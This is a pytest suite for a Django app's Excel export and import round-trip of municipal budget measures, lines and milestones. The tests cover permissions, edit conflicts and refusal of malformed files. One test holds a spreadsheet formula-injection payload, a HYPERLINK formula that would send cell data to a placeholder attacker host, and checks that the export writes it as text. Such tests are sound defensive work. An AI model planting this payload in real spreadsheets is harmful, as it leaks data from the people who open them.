"""The spreadsheet round-trip: export → edit with openpyxl → import changes exactly the edits."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.exceptions import ObjectDoesNotExist
from openpyxl import load_workbook

from digitalbilanz.core.choices import Role, Visibility
from digitalbilanz.core.imports import ImportRejected
from digitalbilanz.core.models import ImportRun, Municipality
from digitalbilanz.portfolio.models import Line, Measure, Milestone
from digitalbilanz.roundtrip import engine
from digitalbilanz.testing import Factory as F

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    town = F.municipality()
    fb1, fb2 = F.unit(town, "FB 1"), F.unit(town, "FB 2")
    admin = F.user(town, Role.ADMIN)
    editor = F.user(town, Role.EDITOR, units=[fb1])
    reader = F.user(town, Role.READER)
    own = F.measure(town, lead_department=fb1, title="Eigene Maßnahme", visibility=Visibility.INTERNAL)
    other = F.measure(town, lead_department=fb2, title="Fremde Maßnahme")
    line = F.line(own, year=2024, amount="1000.50")
    other_line = F.line(other, year=2024, amount="2000")
    milestone = F.milestone(own, title="Start")
    return {
        "town": town,
        "fb1": fb1,
        "fb2": fb2,
        "admin": admin,
        "editor": editor,
        "reader": reader,
        "own": own,
        "other": other,
        "line": line,
        "other_line": other_line,
        "milestone": milestone,
    }


def specs(*names):
    return [engine.spec_named(n) for n in names]


def export(world, user, *names):
    return engine.export_workbook(world["town"], user, specs(*names))


def edit(data, change):
    """Open an exported file with openpyxl, let ``change(book)`` edit it, return the new bytes."""
    book = load_workbook(io.BytesIO(data))
    change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def column_of(sheet, title):
    for cell in sheet[1]:
        if cell.value == title:
            return cell.column
    raise KeyError(title)


def row_of(sheet, record):
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == f"{record.pk}-v{record.lock_version}":
            return row[0].row
    raise KeyError(record)


def set_cell(sheet_name, record, title, value):
    def change(book):
        sheet = book[sheet_name]
        sheet.cell(row_of(sheet, record), column_of(sheet, title)).value = value

    return change


def snapshot(*records):
    return [type(r).objects.filter(pk=r.pk).values().first() for r in records]


def test_the_participating_tables_come_from_the_registry_writes():
    names = {s.name for s in engine.specs()}
    assert {"measures", "lines", "milestones", "indicator_values", "contracts", "contract_values"} <= names
    assert "workplace_snapshots" in names
    assert "delivery_confidence" not in names  # opted out (Writes.roundtrip=False)
    assert "reviews" not in names  # no column the form writes
    assert "budget" not in names  # read-only table
    measures = engine.spec_named("measures")
    columns = {c.name: c.kind for c in measures.columns}
    assert columns["title"] == "plain" and columns["lead_department"] == "lookup"
    assert "progress" not in columns  # computed by a getter (effective progress): not editable
    assert "fields_of_action" not in columns  # a list of records
    assert {c.name: c.kind for c in engine.spec_named("lines").columns}["measure"] == "parent"


def test_full_round_trip_changes_exactly_the_edited_cells_with_the_reason(world):
    admin, own, line, milestone = world["admin"], world["own"], world["line"], world["milestone"]
    data = export(world, admin, "measures", "lines", "milestones")
    book = load_workbook(io.BytesIO(data))
    measures_sheet, lines_sheet, milestones_sheet = book.sheetnames[:3]
    untouched = snapshot(world["other"], world["other_line"])

    def change(book):
        set_cell(measures_sheet, own, "Titel", "Neuer Titel")(book)
        set_cell(lines_sheet, line, "Betrag", 1234.5)(book)
        set_cell(milestones_sheet, milestone, "Prognose", dt.datetime(2024, 9, 30))(book)
        sheet = book[lines_sheet]
        sheet.append([None, own.pk, 2025, "cost", "operation", "external", True, "Neue Zeile", 99])

    edited = edit(data, change)
    preview = engine.preview(world["town"], admin, "bearbeitet.xlsx", edited)
    assert preview.problems == []
    assert preview.counts["changed"] == 3 and preview.counts["created"] == 1
    changed = {s["table"]: s["changed"] for s in preview.sheets}
    assert changed["measures"][0]["changes"] == [("Titel", "Eigene Maßnahme", "Neuer Titel")]
    assert changed["lines"][0]["changes"] == [("Betrag", "1000,5", "1234,5")]
    assert Measure.objects.get(pk=own.pk).title == "Eigene Maßnahme"  # preview writes nothing

    version = Municipality.objects.get(pk=world["town"].pk).data_version
    reason = "Abgleich mit dem Fachbereich"
    result, run = engine.apply(world["town"], admin, "bearbeitet.xlsx", edited, reason)
    assert Municipality.objects.get(pk=world["town"].pk).data_version == version + 1  # one data change
    assert ImportRun.objects.filter(municipality=world["town"]).count() == 1
    assert run.status == ImportRun.Status.DONE
    assert (run.created_count, run.updated_count) == (1, 3)
    before = {"title": "Eigene Maßnahme"}
    own.refresh_from_db()
    assert own.title == "Neuer Titel" != before["title"]
    line.refresh_from_db()
    assert line.amount == Decimal("1234.50")
    milestone.refresh_from_db()
    assert milestone.forecast_date == dt.date(2024, 9, 30)
    new = Line.objects.get(measure=own, label="Neue Zeile")
    assert new.year == 2025 and new.amount == Decimal("99")
    # every stored change carries the reason and the user in its history row
    for record in (own, line, milestone, new):
        latest = record.history.first()
        assert latest.history_change_reason == "Abgleich mit dem Fachbereich"
        assert latest.history_user == admin
    # nothing else changed: the other measure keeps every field, the milestone only its forecast
    assert snapshot(world["other"], world["other_line"]) == untouched
    assert milestone.baseline_date == dt.date(2024, 6, 30) and milestone.title == "Start"
    # the other columns of the edited measure are as before
    assert own.code == Measure.objects.get(pk=own.pk).code and own.lead_department == world["fb1"]


def test_importing_an_unedited_export_changes_nothing(world):
    data = export(world, world["admin"], "measures", "lines", "milestones", "contracts")
    before = snapshot(world["own"], world["line"], world["milestone"])
    result, run = engine.apply(world["town"], world["admin"], "x.xlsx", data, "keine Änderung")
    assert run.updated_count == 0 and run.created_count == 0 and run.unchanged_count == 5
    assert snapshot(world["own"], world["line"], world["milestone"]) == before


def test_a_department_editor_exports_only_what_they_may_edit(world):
    data = export(world, world["editor"], "measures", "lines")
    book = load_workbook(io.BytesIO(data))
    keys = {
        sheet: [r[0] for r in book[sheet].iter_rows(min_row=2, values_only=True)]
        for sheet in book.sheetnames[:2]
    }
    measures, lines = keys.values()
    assert measures == [f"{world['own'].pk}-v{world['own'].lock_version}"]
    assert lines == [f"{world['line'].pk}-v{world['line'].lock_version}"]
    assert b"Fremde" not in data
    # a reader may edit nothing: the sheet is empty
    empty = load_workbook(io.BytesIO(export(world, world["reader"], "measures")))
    assert empty.worksheets[0].max_row == 1


def test_a_department_editor_cannot_smuggle_in_another_departments_record(world):
    """A key of a record the editor may not edit (typed into the hidden column) is refused."""
    data = export(world, world["editor"], "measures")
    other = world["other"]

    def change(book):
        book.worksheets[0].append([f"{other.pk}-v{other.lock_version}", other.code, "Gekapert"])

    result = engine.preview(world["town"], world["editor"], "x.xlsx", edit(data, change))
    assert any("nicht bearbeiten" in p.message for p in result.problems)
    with pytest.raises(ImportRejected):
        engine.apply(world["town"], world["editor"], "x.xlsx", edit(data, change), "Versuch")
    assert Measure.objects.get(pk=other.pk).title == "Fremde Maßnahme"


def test_a_record_changed_since_the_export_is_a_conflict_and_nothing_is_applied(world):
    admin, own, line = world["admin"], world["own"], world["line"]
    data = export(world, admin, "measures", "lines")
    book = load_workbook(io.BytesIO(data))
    measures_sheet, lines_sheet = book.sheetnames[:2]

    def change(book):
        set_cell(measures_sheet, own, "Titel", "Aus Excel")(book)
        set_cell(lines_sheet, line, "Betrag", 5)(book)

    edited = edit(data, change)
    # a colleague saves the line in the app meanwhile
    stored = Line.objects.get(pk=line.pk)
    stored.label = "im Browser geändert"
    stored.save()
    with pytest.raises(ImportRejected) as caught:
        engine.apply(world["town"], admin, "x.xlsx", edited, "Abgleich")
    messages = [p.message for p in caught.value.result.problems]
    assert any("nach dem Export geändert" in m for m in messages)
    assert Measure.objects.get(pk=own.pk).title == "Eigene Maßnahme"  # the valid row was not applied
    assert Line.objects.get(pk=line.pk).amount == Decimal("1000.50")
    assert ImportRun.objects.filter(status=ImportRun.Status.FAILED).count() == 1


def test_validation_uses_the_form_and_names_row_and_column(world):
    admin, own = world["admin"], world["own"]
    data = export(world, admin, "measures")
    sheet = load_workbook(io.BytesIO(data)).sheetnames[0]
    edited = edit(data, set_cell(sheet, own, "Status (Schlüssel)", "erfunden"))
    result = engine.preview(world["town"], admin, "x.xlsx", edited)
    [problem] = result.problems
    assert problem.row == 2 and problem.column == "Status (Schlüssel)" and "Auswahl" in problem.message


def test_a_formula_title_is_exported_as_text_and_comes_back_unchanged(world):
    own = world["own"]
    own.title = '=HYPERLINK("http://böse.example/?x="&A1,"klick")'
    own.save()
    data = export(world, world["admin"], "measures")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cell = sheet.cell(row_of(sheet, Measure.objects.get(pk=own.pk)), column_of(sheet, "Titel"))
    assert cell.data_type == "s" and cell.value == own.title  # typed text, never a formula
    result, run = engine.apply(world["town"], world["admin"], "x.xlsx", data, "unverändert")
    assert run.unchanged_count == 2 and Measure.objects.get(pk=own.pk).title == own.title


# --- bad input: a clear German message, nothing changed ------------------------------------


def rejected(world, data, name="x.xlsx"):
    before = snapshot(world["own"], world["line"], world["milestone"], world["other"])
    result = engine.preview(world["town"], world["admin"], name, data)
    assert result.problems, "the file should have been refused"
    with pytest.raises(ImportRejected):
        engine.apply(world["town"], world["admin"], name, data, "Versuch")
    assert snapshot(world["own"], world["line"], world["milestone"], world["other"]) == before
    town = world["town"]
    assert Line.objects.filter(municipality=town).count() == 2
    assert Measure.objects.filter(municipality=town).count() == 2
    return " ".join(p.message for p in result.problems)


def sheet_edit(change):
    def run(book):
        change(book.worksheets[0])

    return run


def test_wrong_file_type(world):
    assert "keine Excel-Arbeitsmappe" in rejected(world, b"Nummer;Titel\nM-1;x\n", "daten.csv")
    assert "keine Excel-Arbeitsmappe" in rejected(world, b"PK\x03\x04kaputt", "kaputt.xlsx")


def test_a_workbook_that_is_no_export(world):
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    assert "nicht aus einem Excel-Export" in rejected(world, out.getvalue())


def test_a_sheet_from_another_export(world):
    first = export(world, world["admin"], "measures")
    second = export(world, world["admin"], "measures")

    def copy_from_second(book):
        other = load_workbook(io.BytesIO(second)).worksheets[0]
        sheet = book.worksheets[0]
        for row in other.iter_rows():
            for cell in row:
                sheet.cell(cell.row, cell.column).value = cell.value

    assert "anderen Export" in rejected(world, edit(first, copy_from_second))

    def add_foreign_sheet(book):
        book.create_sheet("Kopie")

    assert "gehört nicht zu diesem Export" in rejected(world, edit(first, add_foreign_sheet))


def test_a_file_of_another_municipality(world):
    elsewhere = F.municipality()
    boss = F.user(elsewhere, Role.ADMIN)
    F.measure(elsewhere, title="Dort")
    data = engine.export_workbook(elsewhere, boss, specs("measures"))
    assert "andere Kommune" in rejected(world, data)


def test_renamed_moved_missing_and_added_columns(world):
    data = export(world, world["admin"], "measures")

    def rename(sheet):
        sheet.cell(1, column_of(sheet, "Titel")).value = "Überschrift"

    def delete(sheet):
        sheet.delete_cols(column_of(sheet, "Titel"))

    def swap(sheet):
        a, b = column_of(sheet, "Titel"), column_of(sheet, "Nummer")
        sheet.cell(1, a).value, sheet.cell(1, b).value = "Nummer", "Titel"

    def add(sheet):
        sheet.cell(1, sheet.max_column + 1).value = "Notiz"

    assert "umbenannt" in rejected(world, edit(data, sheet_edit(rename)))
    assert "Titel" in rejected(world, edit(data, sheet_edit(delete)))
    assert "verschoben" in rejected(world, edit(data, sheet_edit(swap)))
    assert "Unbekannte Spalte „Notiz“" in rejected(world, edit(data, sheet_edit(add)))


def test_merged_cells(world):
    data = export(world, world["admin"], "measures")
    assert "verbundene Zellen" in rejected(world, edit(data, sheet_edit(lambda s: s.merge_cells("B2:C2"))))


def test_a_formula_instead_of_a_value(world):
    data = export(world, world["admin"], "lines")
    line = world["line"]
    sheet = load_workbook(io.BytesIO(data)).sheetnames[0]
    assert "Formel statt Wert" in rejected(world, edit(data, set_cell(sheet, line, "Betrag", "=1000+1")))


def test_text_in_a_number_cell(world):
    data = export(world, world["admin"], "lines")
    sheet = load_workbook(io.BytesIO(data)).sheetnames[0]
    message = rejected(world, edit(data, set_cell(sheet, world["line"], "Betrag", "1.000,50 €")))
    assert "Text „1.000,50 €“ statt einer Zahl" in message


def test_dates_as_text_german_form_is_accepted_other_text_refused(world):
    data = export(world, world["admin"], "milestones")
    milestone = world["milestone"]
    sheet = load_workbook(io.BytesIO(data)).sheetnames[0]
    assert "kein Datum" in rejected(
        world, edit(data, set_cell(sheet, milestone, "Prognose", "Ende September"))
    )
    edited = edit(data, set_cell(sheet, milestone, "Prognose", "30.09.2024"))
    result, run = engine.apply(world["town"], world["admin"], "x.xlsx", edited, "Verzug")
    assert run.updated_count == 1
    assert Milestone.objects.get(pk=milestone.pk).forecast_date == dt.date(2024, 9, 30)


def test_duplicated_keys(world):
    data = export(world, world["admin"], "measures")

    def duplicate(sheet):
        first = [c.value for c in sheet[2]]
        sheet.append(first)

    assert "Kopie der Zeile 2" in rejected(world, edit(data, sheet_edit(duplicate)))


def test_an_unreadable_key(world):
    data = export(world, world["admin"], "measures")
    assert "unlesbar" in rejected(
        world, edit(data, sheet_edit(lambda s: setattr(s.cell(2, 1), "value", "17")))
    )


def with_rows(data, count):
    """The export with ``count`` more rows in its first sheet, written into the XML directly."""
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                rows = "".join(
                    f'<row r="{n}"><c r="F{n}" t="inlineStr"><is><t>Quelle {n}</t></is></c></row>'
                    for n in range(3, count + 3)
                ).encode()
                content = content.replace(b"</sheetData>", rows + b"</sheetData>")
                content = content.replace(b"<sheetData/>", b"<sheetData>" + rows + b"</sheetData>")
            target.writestr(item, content)
    return out.getvalue()


def test_too_many_rows_are_refused_before_they_are_read(world):
    """100,001 rows: refused with a message; the rows are counted in the XML, never parsed."""
    data = export(world, world["admin"], "indicator_values")
    assert "mehr als 100.000 Zeilen" in rejected(world, with_rows(data, engine.MAX_ROWS + 1))
    # a file just below the limit is read (and fails for its rows, not for its size)
    small = engine.preview(world["town"], world["admin"], "x.xlsx", with_rows(data, 3))
    assert small.problems and all("Zeilen" not in p.message for p in small.problems)


def test_the_parent_of_an_existing_row_cannot_change(world):
    data = export(world, world["admin"], "lines")
    sheet = load_workbook(io.BytesIO(data)).sheetnames[0]
    message = rejected(world, edit(data, set_cell(sheet, world["line"], "Maßnahme", world["other"].pk)))
    assert "kann nicht geändert werden" in message


def test_unknown_records_are_refused(world):
    data = export(world, world["admin"], "measures")

    def ghost(sheet):
        sheet.cell(2, 1).value = "999999-v1"

    assert "gibt es hier nicht" in rejected(world, edit(data, sheet_edit(ghost)))
    with pytest.raises(ObjectDoesNotExist):
        Measure.objects.get(pk=999999)


def test_a_save_that_loses_a_race_after_validation_rejects_the_whole_file(world, monkeypatch):
    """Another save between the check and the UPDATE: the conditional UPDATE refuses, all rolls back."""
    admin, own, line = world["admin"], world["own"], world["line"]
    data = export(world, admin, "measures", "lines")
    book = load_workbook(io.BytesIO(data))
    measures_sheet, lines_sheet = book.sheetnames[:2]

    def change(book):
        set_cell(measures_sheet, own, "Titel", "Aus Excel")(book)
        set_cell(lines_sheet, line, "Betrag", 5)(book)

    validated = engine._validated_form

    def racing(spec, *args, **kwargs):
        form = validated(spec, *args, **kwargs)
        if spec.name == "lines":  # a colleague saves the line right now
            Line.objects.filter(pk=line.pk).update(lock_version=line.lock_version + 1)
        return form

    monkeypatch.setattr(engine, "_validated_form", racing)
    with pytest.raises(ImportRejected) as caught:
        engine.apply(world["town"], admin, "x.xlsx", edit(data, change), "Abgleich")
    assert any("nach dem Export geändert" in p.message for p in caught.value.result.problems)
    assert Measure.objects.get(pk=own.pk).title == "Eigene Maßnahme"  # saved first, rolled back
    assert Line.objects.get(pk=line.pk).amount == Decimal("1000.50")


def test_a_new_row_needs_its_parent_and_the_editors_own_department(world):
    editor = world["editor"]
    data = export(world, editor, "lines", "measures")
    lines_sheet, measures_sheet = load_workbook(io.BytesIO(data)).sheetnames[:2]

    def orphan(book):
        book[lines_sheet].append([None, None, 2025, "cost", "operation", "external", True, "ohne"])

    message = rejected_for(world, editor, edit(data, orphan))
    assert "Maßnahme fehlt" in message

    def foreign_parent(book):
        book[lines_sheet].append([None, world["other"].pk, 2024, "cost", "operation", "external", True, "x"])

    assert "keine Zeile anlegen" in rejected_for(world, editor, edit(data, foreign_parent))

    def foreign_unit(book):
        sheet = book[measures_sheet]
        row = [None] * sheet.max_column
        row[column_of(sheet, "Nummer") - 1] = "M-NEU"
        row[column_of(sheet, "Titel") - 1] = "Neu"
        row[column_of(sheet, "Federführung") - 1] = "FB 2"
        sheet.append(row)

    assert "Federführung" in rejected_for(world, editor, edit(data, foreign_unit))


def rejected_for(world, user, data):
    result = engine.preview(world["town"], user, "x.xlsx", data)
    with pytest.raises(ImportRejected):
        engine.apply(world["town"], user, "x.xlsx", data, "Versuch")
    assert Line.objects.filter(municipality=world["town"]).count() == 2
    assert Measure.objects.filter(municipality=world["town"]).count() == 2
    return " ".join(f"{p.column}: {p.message}" for p in result.problems)


def test_a_reader_may_not_create_anything(world):
    data = export(world, world["admin"], "measures")

    def add(book):
        sheet = book.worksheets[0]
        row = [None] * sheet.max_column
        row[column_of(sheet, "Nummer") - 1] = "M-NEU"
        row[column_of(sheet, "Titel") - 1] = "Neu"
        sheet.append(row)

    assert "keine neuen Datensätze" in rejected_for(world, world["reader"], edit(data, add))


def test_exporting_costs_a_fixed_number_of_queries(world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def queries():
        user = type(world["admin"]).objects.get(pk=world["admin"].pk)  # no cached membership
        with CaptureQueriesContext(connection) as captured:
            export(world, user, "measures", "lines", "milestones")
        return [q["sql"][:150] for q in captured]

    few = queries()
    for n in range(10):
        F.line(world["other"] if n % 2 else world["own"], year=2024, amount=str(n + 1))
        F.milestone(world["own"], title=f"M {n}")
    many = queries()
    assert len(many) == len(few), "\n".join(many)
